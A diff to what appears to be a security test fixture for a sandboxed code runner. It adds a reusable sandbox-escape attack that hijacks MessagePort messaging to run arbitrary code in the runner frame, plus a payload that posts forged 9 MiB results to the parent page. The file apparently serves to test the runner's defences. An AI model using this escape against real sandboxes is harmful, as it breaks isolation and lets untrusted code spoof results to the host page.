@@ -31,8 +31,11 @@ const PAYLOAD = `
   return JSON.stringify(found);
 `;
 
-/** The body of `async (trigger) => …`; `trigger()` must print a line through the runtime. */
-const ATTACK = `return (async () => {
+/**
+ * The body of `async (trigger) => …` that runs `payload` where the log callback lives;
+ * `trigger()` must print a line through the runtime.
+ */
+const attackWith = (payload: string) => `return (async () => {
   const port = await new Promise((resolve) => {
     const original = MessagePort.prototype.postMessage;
     MessagePort.prototype.postMessage = function (...args) {
@@ -55,11 +58,32 @@ const ATTACK = `return (async () => {
   const made = await call(port, {
     type: "CONSTRUCT",
     path: ["constructor"],
-    argumentList: [{ type: "RAW", value: ${JSON.stringify(PAYLOAD)} }],
+    argumentList: [{ type: "RAW", value: ${JSON.stringify(payload)} }],
   });
   const result = await call(made.value, { type: "APPLY", path: [], argumentList: [] });
   return result.value;
 })();`;
+
+const ATTACK = attackWith(PAYLOAD);
+
+/**
+ * From the runner frame, posts the page a result for each of its first runs whose body is over
+ * the size cap: a page that takes it renders 9 MiB of whatever the runner chose.
+ */
+const OVERSIZED_PAYLOAD = `
+  const body = new Uint8Array(9 * 1024 * 1024);
+  const outcome = { response: { status: 200, headers: [], body }, logs: [], durationMs: 1 };
+  for (let runId = 0; runId < 4; runId++)
+    parent.parent.postMessage({ type: "result", runId, outcome }, "*");
+  return "sent";
+`;
+
+/** A TypeScript handler whose run takes over its runner frame and sends an oversized result. */
+export const OVERSIZED_RESULT_ATTACK = `export default async function handler() {
+  const attack = new Function("trigger", ${JSON.stringify(attackWith(OVERSIZED_PAYLOAD))});
+  return new Response(await attack(() => console.log("innocent line")));
+}
+`;
 
 /** The attack as a TypeScript handler. */
 export const TYPESCRIPT_ATTACK = `export default async function handler() {
